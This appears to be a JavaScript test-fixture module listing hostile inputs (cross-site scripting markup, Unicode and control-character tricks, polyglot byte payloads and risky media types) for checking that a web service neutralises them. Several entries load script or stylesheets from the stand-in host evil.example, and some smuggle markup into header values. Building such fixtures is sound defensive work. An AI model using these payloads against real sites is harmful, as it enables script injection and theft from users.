// What an attacker would store or type, in the hope that a page takes it for markup, script or another media type.

/** Fit for every place, the value of an HTTP header too: visible ASCII. Whatever of it runs opens a dialog or asks a foreign host. */
export const MARKUP = [
  // Elements that run something, or load it.
  "<script>alert(1)</script>",
  "<ScRiPt>alert(1)</sCrIpT >",
  "<script/src=data:text/javascript,alert(1)></script>",
  "<script type=module>import('//evil.example/m.js')</script>",
  "<img src=x onerror=alert(1)>",
  "<img/src='x'/onerror='alert(1)'//",
  "<svg/onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  "<svg><script href=data:,alert(1) /></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '"><iframe src="javascript:alert(1)"></iframe>',
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<object data=data:text/html,<script>alert(1)</script>></object>",
  "<embed src=//evil.example/x.swf>",
  "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
  "<body onload=alert(1) onpageshow=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<p onanimationstart=alert(1) style=animation:x>",
  // Elements that change the page around them.
  "<style>@import url(//evil.example/x.css);*{display:none}</style>",
  "<link rel=stylesheet href=//evil.example/x.css><link rel=preload as=script href=//evil.example/p.js>",
  "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
  "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
  "<a href=javascript:alert(1)>x</a><form action=//evil.example><button>y</button></form>",
  "<a href=//evil.example ping=//evil.example/ping target=_blank>x</a>",
  "<plaintext>",
  // Ends of what it may stand in.
  "'\"--></style></script><script src=//evil.example/x.js></script>",
  "</textarea></title></pre></noscript><script>alert(1)</script>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml-stylesheet href=javascript:alert(1)?><!DOCTYPE x [<!ENTITY e SYSTEM '//evil.example/e'>]>",
  "\" onmouseover=\"alert(1)\" x=\"",
  "' autofocus onfocus='alert(1)' x='",
  "` onmouseover=`alert(1)` x=`",
  // Addresses.
  "javascript:alert(1)",
  "JaVaScRiPt://%0aalert(1)",
  "data:text/html,<script>alert(1)</script>",
  "//evil.example/x.js",
  // Templates, and what is decoded once too often.
  "{alert(1)}{{constructor.constructor('alert(1)')()}}${alert(1)}{@html '<b>'}",
  "<%= alert(1) %>#{alert(1)}[[${alert(1)}]]",
  "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x&#62;",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  // Names that objects of the language have already.
  "__proto__",
  "constructor",
];

/** Text that has no place in the value of an HTTP header: controls, marks that turn the line around, other alphabets. */
export const ODD = [
  "\u202e<txt.exe\u202c",
  "\u2066\u202egpj.<script>alert(1)</script>\u2069",
  "a\u0000b\u0007\u001b[2J",
  "<\u0000script>alert(1)</script>",
  "<img\u000csrc=x\u000conerror=alert(1)>",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "tab\there\nline",
  "\ufeff<script>alert(1)</script>",
  "\ud83d\ude00\u200b\ufeff\u2028alert(1)\u2029",
  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
  "<scr\u0131pt>alert(1)</scr\u0131pt>",
];

const html = "<!doctype html><script>alert(1)</script><img src=//evil.example/x.png>";
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
const bytes = (...parts) => Buffer.concat(parts.map((part) => Buffer.from(part)));

/** Payloads that are no text, or not the text that they seem to be. */
export const BYTES = [
  bytes(html),
  bytes(svg),
  bytes([0xef, 0xbb, 0xbf], html),
  bytes([0xff, 0xfe], Buffer.from(html, "utf16le")),
  bytes([0xfe, 0xff], Buffer.from(html, "utf16le").swap16()),
  bytes([0xc0, 0xbc], "script", [0xc0, 0xbe], "alert(1)"),
  bytes([0xe2, 0x3c], "script>alert(1)</script>", [0xff]),
  bytes([0x1b], "$B<script>alert(1)</script>", [0x1b], "(B"),
  bytes("GIF89a/*", [0, 0, 0], "*/=alert(1)//", html),
  bytes([0x89], "PNG\r\n", [0x1a, 0x0a], html),
  bytes("%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n", html),
  bytes("--x\r\nContent-Type: text/html\r\n\r\n", html, "\r\n--x--"),
  bytes("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n", html),
  bytes("data: x\n\nevent: record\ndata: ", html, "\n\n"),
];

/** Media types that a browser would run, or guess about. */
export const MEDIA_TYPES = [
  "text/html",
  "text/html; charset=utf-7",
  "text/html; charset=\"><script>alert(1)</script>\"",
  "image/svg+xml",
  "application/xhtml+xml",
  "text/xml; charset=utf-16",
  "text/xsl",
  "text/javascript",
  "application/ecmascript",
  "text/css",
  "multipart/x-mixed-replace; boundary=x",
  "message/rfc822",
  "application/pdf",
  "application/x-shockwave-flash",
  "application/octet-stream",
  "text/plain; charset=iso-2022-jp",
  "application/unknown",
];
